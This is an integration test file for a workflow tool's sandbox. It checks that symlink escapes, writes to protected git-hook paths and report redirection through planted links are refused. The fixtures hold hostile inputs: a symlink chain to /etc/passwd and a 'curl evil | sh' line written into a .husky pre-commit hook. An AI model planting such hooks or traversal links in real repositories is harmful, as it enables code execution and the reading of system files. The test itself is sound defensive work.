// The way back (issue #12) through the real CLI and real containers: a `copy` step's change set
// is data from an adversary. A symlink chain that looks inside as text but leads out, a write to
// a protected path, and wflo's own report written through a link planted in the checkout each
// fail with one sentence, leave the checkout and a sentinel beside it byte-for-byte as they
// were, and leave no container or volume behind.
import { execFileSync } from 'node:child_process';
import { mkdirSync, mkdtempSync, readFileSync, writeFileSync, chmodSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { beforeAll, describe, expect, it } from 'vitest';
import { runCli } from '../src/cli/main.js';
import { docker, requireDocker, TEST_IMAGE } from './support/docker.js';
import { treeHash } from './support/docker-tree.js';

beforeAll(() => requireDocker(), 180_000);

/** A checkout inside a temp root, with a sentinel file and folder beside it. */
function world(flow: string): { root: string; checkout: string; reportFile: string } {
  const root = mkdtempSync(path.join(tmpdir(), 'wflo-wayback-int-'));
  const checkout = path.join(root, 'checkout');
  mkdirSync(path.join(checkout, 'src'), { recursive: true });
  writeFileSync(path.join(checkout, 'src', 'app.txt'), 'app\n');
  writeFileSync(path.join(checkout, 'flow.yml'), flow);
  writeFileSync(path.join(root, 'sentinel'), 'outside, never to change\n');
  mkdirSync(path.join(root, 'outside'));
  writeFileSync(path.join(root, 'outside', 'keep.txt'), 'keep\n');
  chmodSync(checkout, 0o755);
  chmodSync(path.join(checkout, 'src'), 0o755);
  // The report lives apart, so the root's hash covers only the checkout and its neighbours.
  const reports = mkdtempSync(path.join(tmpdir(), 'wflo-wayback-report-'));
  return { root, checkout, reportFile: path.join(reports, 'report.json') };
}

async function run(checkout: string, report: string) {
  let output = '';
  const code = await runCli(['run', 'flow.yml', '--report', report], {
    out: (t) => void (output += t),
    err: (t) => void (output += t),
    cwd: checkout,
    env: { PATH: process.env.PATH },
    onInterrupt: () => () => undefined,
    forceExit: () => undefined,
  });
  return { code, output };
}

/**
 * No container or volume of these runs is left. The CLI runs in this process, so its resources
 * carry this pid (other suites may be running beside this one).
 */
function expectNothingLeft(): void {
  const filter = ['--filter', 'label=wflo.run', '--filter', `label=wflo.pid=${process.pid}`];
  expect(docker('ps', '-a', ...filter, '-q').trim()).toBe('');
  expect(docker('volume', 'ls', ...filter, '-q').trim()).toBe('');
}

const sandboxStep = (run: string, extra = '') => `version: 1
name: way-back
steps:
  - id: plant
    sandbox:
      image: ${TEST_IMAGE}
      workspace: copy
      run: '${run}'${extra}
`;

// `d -> .`, `up1 -> d/..`, `upN -> up(N-1)/..`, `host-passwd -> up24/etc/passwd`, and a file.
const CHAIN =
  'ln -s . d && ln -s d/.. up1 && i=2; while [ $i -le 24 ]; do ln -s up$((i-1))/.. up$i; i=$((i+1)); done; ' +
  'ln -s up24/etc/passwd host-passwd && ln -s up1/sentinel sentinel-link && echo pwned > notes.txt';

describe('the way back from a copy step, through the CLI', () => {
  it(
    'refuses the symlink chain that leads out, applying nothing, with one sentence naming the path',
    { timeout: 120_000 },
    async () => {
      const { root, checkout, reportFile } = world(sandboxStep(CHAIN));
      const before = treeHash(root);
      const { code, output } = await run(checkout, reportFile);
      expect(code, output).toBe(1);
      // The set comes back sorted by path: host-passwd is the first link resolved.
      expect(output).toContain(
        'its changes could not be applied to the checkout: the change set holds a symlink host-passwd -> up24/etc/passwd that leads above the checkout, and symlinks are kept only when they lead inside the checkout.',
      );
      expect(treeHash(root)).toBe(before);
      expect(readFileSync(path.join(root, 'sentinel'), 'utf8')).toBe('outside, never to change\n');
      const report = JSON.parse(readFileSync(reportFile, 'utf8')) as { changes: unknown[] };
      expect(report.changes).toMatchObject([{ step: 'plant', outcome: 'discarded' }]);
      expectNothingLeft();
    },
  );

  it(
    'refuses .husky/pre-commit under core.hooksPath unless the step allows it',
    { timeout: 120_000 },
    async () => {
      const write = 'mkdir -p .husky && echo "curl evil | sh" > .husky/pre-commit';
      const refused = world(sandboxStep(write));
      execFileSync('git', ['init', '-q', refused.checkout]);
      execFileSync('git', ['config', 'core.hooksPath', '.husky'], { cwd: refused.checkout });
      const before = treeHash(refused.root);
      const first = await run(refused.checkout, refused.reportFile);
      expect(first.code, first.output).toBe(1);
      expect(first.output).toContain(
        "the change set writes .husky/pre-commit, which is protected; add '.husky' to the step's protected_paths_allowed to let it through.",
      );
      expect(treeHash(refused.root)).toBe(before);

      const allowed = world(sandboxStep(write, "\n      protected_paths_allowed: ['.husky']"));
      const second = await run(allowed.checkout, allowed.reportFile);
      expect(second.code, second.output).toBe(0);
      expect(readFileSync(path.join(allowed.checkout, '.husky', 'pre-commit'), 'utf8')).toBe(
        'curl evil | sh\n',
      );
      expectNothingLeft();
    },
  );

  it(
    "never writes the report through a link planted in the checkout, and keeps the run's exit code",
    { timeout: 120_000 },
    async () => {
      // A shell step on the runner plants the links mid-run, after the report's preflight.
      const flow = `version: 1
name: way-back-report
steps:
  - id: work
    sandbox: { image: ${TEST_IMAGE}, workspace: copy, run: 'echo done > done.txt' }
  - id: plant
    shell:
      run: ln -s ../sentinel report.json && rm -rf out && ln -s ../outside out
`;
      const { root, checkout } = world(flow);
      const sentinel = readFileSync(path.join(root, 'sentinel'));
      const outside = treeHash(path.join(root, 'outside'));
      const direct = await run(checkout, 'report.json');
      expect(direct.code, direct.output).toBe(0);
      expect(direct.output).toContain(
        `wflo: cannot write the report to ${path.join(checkout, 'report.json')}: it is a symbolic link, and wflo never writes its files through one`,
      );
      expect(readFileSync(path.join(root, 'sentinel'))).toEqual(sentinel);
      expect(readFileSync(path.join(checkout, 'done.txt'), 'utf8')).toBe('done\n');

      // The same through a linked folder: out -> ../outside.
      execFileSync('rm', [
        path.join(checkout, 'report.json'),
        path.join(checkout, 'out'),
        path.join(checkout, 'done.txt'),
      ]);
      const viaFolder = await run(checkout, 'out/report.json');
      expect(viaFolder.code, viaFolder.output).toBe(0);
      expect(viaFolder.output).toContain(
        `is a symbolic link inside the checkout, and wflo never writes its files through one`,
      );
      expect(treeHash(path.join(root, 'outside'))).toBe(outside);
      expect(readFileSync(path.join(root, 'sentinel'))).toEqual(sentinel);
      expectNothingLeft();
    },
  );
});
